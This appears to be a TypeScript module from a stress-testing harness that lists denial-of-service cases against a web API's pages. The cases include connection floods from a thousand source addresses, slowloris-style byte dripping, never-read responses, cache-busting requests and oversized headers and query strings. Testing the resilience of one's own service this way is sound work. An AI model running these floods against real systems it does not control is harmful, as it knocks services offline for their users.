import { attackClass, type Target } from '../attack.ts';
import { flood, hold, neverRead, same } from '../deliveries.ts';
import { request, type Wording } from '../wire.ts';
import { addressOf } from './keys.ts';

const asked = (path: string, headers: Wording['headers'] = {}, method = 'GET'): Uint8Array =>
  request({ method, path, headers: { Accept: 'text/html', ...headers } });

const PATHS = [
  '/',
  '/docs',
  '/docs/errors',
  '/data',
  '/data.json',
  '/openapi.json',
  '/graphql',
  '/assets/site.js',
  '/assets/site.css',
  '/assets/flags/de.svg',
];

const asComing = PATHS.map((path) => [
  `${path}, as it comes`,
  (target: Target) => flood(target, same(asked(path)), { connections: 32 }),
]);

const LARGE = ['/docs', '/openapi.json', '/graphql'];

/** Ways to request a large page. */
const WAYS: Readonly<Record<string, (path: string) => (target: Target) => Promise<void>>> = {
  'never read': (path) => (target) => neverRead(target, same(asked(path)), { connections: 200 }),
  'compressed, from a thousand addresses': (path) => (target) =>
    flood(target, same(asked(path, { 'Accept-Encoding': 'br' })), { connections: 1_000, from: addressOf }),
  'then gone': (path) => (target) =>
    flood(target, same(asked(path)), { connections: 64, fresh: true, patienceMs: 5 }),
  HEAD: (path) => (target) =>
    flood(target, same(asked(path, {}, 'HEAD')), { connections: 32, bodiless: true }),
  'a new address each time': (path) => (target) =>
    flood(target, (count) => asked(`${path}?${count}`), { connections: 32 }),
};

const ways = LARGE.flatMap((path) =>
  Object.entries(WAYS).map(([name, way]) => [`${path}, ${name}`, way(path)]),
);

export const pages = attackClass('pages', 'the reference, the GraphiQL page and assets, no key', {
  ...Object.fromEntries([...asComing, ...ways]),
  '/docs, tags by the thousand': (target) =>
    flood(target, same(asked('/docs', { 'If-None-Match': 'W/"a",'.repeat(2_000) })), { connections: 32 }),
  '/docs, by POST': (target) =>
    flood(target, same(asked('/docs', { 'Content-Length': '0' }, 'POST')), { connections: 32 }),
  '/graphql, with a query in its address': (target) =>
    flood(target, (count) => asked(`/graphql?query=${'%7B'.repeat(4_000)}${count}`), { connections: 32 }),
  'assets that are not there': (target) =>
    flood(target, (count) => asked(`/assets/flags/${count}.svg`), { connections: 32 }),
  'pages that are not there': (target) =>
    flood(target, (count) => asked(`/docs/${count}`), { connections: 32 }),
  'a page by a letter a second': (target) =>
    hold(target, same(Buffer.from('GET /docs HTTP/1.1\r\nHost: a')), { drip: Buffer.from('a') }),
});
